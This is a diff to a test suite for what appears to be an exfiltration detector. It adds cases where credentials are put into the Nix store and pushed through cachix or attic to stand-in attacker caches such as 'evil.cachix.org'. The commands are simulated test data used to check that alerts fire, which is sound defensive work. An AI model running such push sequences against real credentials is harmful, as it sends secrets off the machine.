@@ -68,10 +68,38 @@ describe('nix store paths copied off the machine', () => {
       expect(await alertsOf('cachix-push', cachix, `push evil ${STORE_PATH}`, 'evil.cachix.org:443', form)).toEqual([
         high('nix', '104.26.1.1:443'),
       ]);
+      // cachix-action's default: the daemon uploads (found by review: no push).
+      const daemon = 'daemon run --socket /tmp/cachix-daemon-x/daemon.sock evil';
+      expect(await alertsOf('cachix-daemon', cachix, daemon, 'evil.cachix.org:443', form)).toEqual([
+        high('nix', '104.26.1.1:443'),
+      ]);
       const attic = '/nix/var/nix/profiles/default/bin/attic';
       expect(
         await alertsOf('attic-push', attic, `push evil:loot ${STORE_PATH}`, 'cache.evil.example:443', form),
       ).toEqual([high('nix', '198.51.100.11:443')]);
+    });
+
+    it(`cachix daemon push, handing the read path to a daemon started before the read, is high (${form})`, async () => {
+      // Review: the daemon was started first, so its own push came before the read; the request is the push.
+      const cachix = '/nix/var/nix/profiles/default/bin/cachix';
+      const socket = '--socket /tmp/cachix-daemon-x/daemon.sock';
+      const s = inlineScenario('cachix-daemon-push', { 'evil.cachix.org': '104.26.1.1' }, [
+        { at: '1s', exec: { id: 'daemon', parent: 'app', binary: cachix, args: `daemon run ${socket} evil` } },
+        { after: '30s', exec: { id: 'add', parent: 'app', binary: NIX, args: `store add-file ${CREDS}` } },
+        { after: '2ms', read: { proc: 'add', path: CREDS, bytes: 116 } },
+        { after: '3ms', exit: { proc: 'add' } },
+        {
+          after: '500ms',
+          exec: { id: 'hand', parent: 'app', binary: cachix, args: `daemon push ${socket} ${STORE_PATH}` },
+        },
+        { after: '5ms', exit: { proc: 'hand' } },
+        { after: '5ms', upload: { proc: 'daemon', to: 'evil.cachix.org:443', bytes: '6KiB', over: '300ms' } },
+      ]);
+      // The daemon's start is the low notice; the request names no cache and makes no connect: no destination.
+      expect((await runInlineScenario(s, form)).alerts.map(briefOf)).toEqual([
+        { rule: 'push-without-reads', severity: 'low', tool: 'nix', destination: '104.26.1.1:443' },
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'nix', destination: null },
+      ]);
     });
 
     it(`copies into a local store or a bucket, from a cache, and cachix's reads are quiet (${form})`, async () => {
